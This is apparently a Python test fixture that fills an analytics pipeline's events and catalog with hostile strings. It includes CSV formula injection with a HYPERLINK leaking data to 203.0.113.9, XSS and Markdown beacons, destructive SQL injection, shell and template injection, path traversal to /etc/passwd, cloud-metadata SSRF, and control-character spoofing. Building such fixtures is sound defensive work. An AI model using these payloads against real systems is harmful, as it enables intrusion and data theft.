"""What somebody may write who wants more than to be counted: as ids, names, answers and addresses of a small audience."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

FORMULAS = (
    '=HYPERLINK("http://203.0.113.9/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
)  # fmt: skip
"""What a spreadsheet runs (OWASP, CSV injection)."""
SCRIPTS = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "![beacon](http://203.0.113.9/p.png)", "[click](javascript:alert(1))",
    "</script><iframe src=http://203.0.113.9/>", "` | ![beacon](http://203.0.113.9/q.png) | \\| <b>bold</b> `",
)  # fmt: skip
"""What a page, or a renderer of Markdown, runs or fetches."""
STATEMENTS = (
    "'; drop table core.dim_video; --", '"; drop schema kpis cascade; --', "$$; select pg_sleep(9); $$", "{{ env_var('AUDIENCE_HOME') }}",
    "{% raw %}", "${AUDIENCE_HOME}", "$(touch /tmp/owned)", "%(name)s", "{0.__class__}", "\\", "\\'; --", "/* ", "?", "$1", ":name",
)  # fmt: skip
"""What a database, a template or a shell runs."""
PATHS = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\CON", "NUL.txt", "aux", "*", "[a-z]?", "~root",
    "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "event_date=2026-01-01", ".", "..", "-rf", "%2e%2e%2f", "a/b/c",
)  # fmt: skip
"""What a file system or a fetcher follows."""
SIGHTS = (
    "NUL \x00 within", "bell \x07 and \x1b[31mred\x1b[0m \x1b]0;title\x07", "\u202egnp.exe\u202c", "zero\u200bwidth\ufeff", "\ud800 alone",
    "[red]markup[/red] [/nothing]", "e" + "\u0301" * 50, "line\nfeed\r\nreturn", " ", "null", "NaN", "w" * 3_000,
)  # fmt: skip
"""What a reader does not see, or sees as something else."""
TEXTS = (*FORMULAS, *SCRIPTS, *STATEMENTS, *PATHS, *SIGHTS)
MEGABYTE = "m" * 2**20
BEACONS = ("203.0.113.9", "169.254.169.254")
"""Addresses that must never be asked for anything."""

FIRST = datetime(2026, 10, 5, 9)
PLAIN = "plain"
"""The workspace in which everything but the workspace's own id is hostile."""


def events() -> Iterator[dict[str, Any]]:
    """Every text as each id of a visit in the plain workspace, and as the name of a workspace of its own."""
    for number, text in enumerate(TEXTS):
        yield from visit(PLAIN, text, FIRST + timedelta(hours=number % 48, minutes=number), f"{number}")
        yield from visit(text, f"video-{number}", FIRST + timedelta(minutes=number), f"tenant-{number}")
    for name in ("video_id", "page_url", "properties"):
        value = {"long": MEGABYTE} if name == "properties" else MEGABYTE
        yield {**next(iter(visit(PLAIN, "long", FIRST, f"long {name}"))), name: value}


def visit(workspace: str, text: str, began: datetime, name: str) -> Iterator[dict[str, Any]]:
    """One viewer's visit: seen, played, clicked, asked, answered, bought."""
    told: tuple[dict[str, Any], ...] = (
        {"event_type": "impression", "referrer": text, "page_url": text, "utm_campaign": text, "utm_source": text},
        {"event_type": "play", "position_seconds": 0, "duration_seconds": 40, "os": text, "browser": text, "device_type": text},
        {
            "event_type": "hotspot_click",
            "element_id": text,
            "element_type": "hotspot",
            "destination_url": text,
            "x": 0.5,
            "y": 0.5,
        },
        {
            "event_type": "question_answer",
            "element_id": f"q{text}",
            "element_type": "question",
            "response": [text],
            "is_correct": False,
        },
        {"event_type": "survey_response", "element_id": f"s{text}", "element_type": "survey", "response": [text]},
        {"event_type": "form_submit", "element_id": f"f{text}", "element_type": "form", "properties": {text[:100]: text}},
        {"event_type": "branch_choice", "element_id": f"b{text}", "to_node_id": f"to {text}"},
        {"event_type": "conversion", "value": 10, "currency": "EUR", "properties": {"order_id": text}, text[:100]: "unknown key"},
        {"event_type": text, "position_seconds": 39},
        {"event_type": "ended", "position_seconds": 40},
    )
    for number, fields in enumerate(told):
        moment = (began + timedelta(seconds=3 * number)).isoformat() + "Z"
        yield {
            "event_id": f"{name}-{number}-{text[:2_000]}", "occurred_at": moment, "received_at": moment, "workspace_id": workspace,
            "device_id": f"d{text}", "user_id": text, "playback_id": f"p{text}", "video_id": text, "node_id": text, "country": text[:40],
            "experiment_id": "e", "variant_id": text, "player_version": text[:40], "consent_marketing": True, **fields,
        }  # fmt: skip


def catalog() -> dict[str, list[dict[str, Any]]]:
    """Authored metadata of the plain workspace, hostile in every name."""
    rows: dict[str, list[dict[str, Any]]] = {}
    for text in TEXTS:
        of_video = {"workspace_id": PLAIN, "video_id": text}
        entities: dict[str, dict[str, Any]] = {
            "videos": {**of_video, "title": text, "start_node_id": text, "cost": 5, "currency": "EUR"},
            "nodes": {**of_video, "node_id": text, "title": text, "duration_seconds": 40},
            "elements": {**of_video, "node_id": text, "element_id": text, "element_type": "hotspot", "name": text, "destination_url": text,
                         "from_seconds": 0, "to_seconds": 30, "box_x": 0.4, "box_y": 0.4, "box_width": 0.2, "box_height": 0.2},
            "questions": {**of_video, "question_id": f"q{text}", "element_id": f"q{text}", "text": text, "topic": text, "max_score": 1},
            "options": {"workspace_id": PLAIN, "question_id": f"q{text}", "option_id": text, "text": text, "is_correct": True},
            "campaigns": {"workspace_id": PLAIN, "campaign_id": text, "name": text, "channel": text, "cost": 1, "currency": "EUR"},
            "contacts": {"workspace_id": PLAIN, "user_id": text, "name": text, "email": f"{text}@example.org", "account_id": text,
                         "consent_marketing": True},
            "accounts": {"workspace_id": PLAIN, "account_id": text, "name": text, "domain": text},
            "assignments": {"workspace_id": PLAIN, "user_id": text, "video_id": text, "assigned_at": "2026-10-01T00:00:00Z",
                            "due_at": "2026-10-07T00:00:00Z", "org_unit": text},
            "goals": {"workspace_id": PLAIN, "goal_id": text, "name": text, "window_hours": 72,
                      "steps": [{"step_name": text, "event_type": "play"}, {"step_name": f"{text}2", "event_type": "conversion"}]},
        }  # fmt: skip
        for entity, row in entities.items():
            rows.setdefault(entity, []).append(row)
    rows["videos"].append({"workspace_id": PLAIN, "video_id": "long", "title": MEGABYTE})
    return rows


def land(landing: Path) -> None:
    """Write it all as files: lone surrogates and control characters as JSON escapes them."""
    (landing / "native").mkdir(parents=True)
    (landing / "catalog").mkdir()
    (landing / "native" / "visits.ndjson").write_text("".join(f"{json.dumps(event)}\n" for event in events()))
    for entity, rows in catalog().items():
        (landing / "catalog" / f"{entity}.ndjson").write_text("".join(f"{json.dumps(row)}\n" for row in rows))
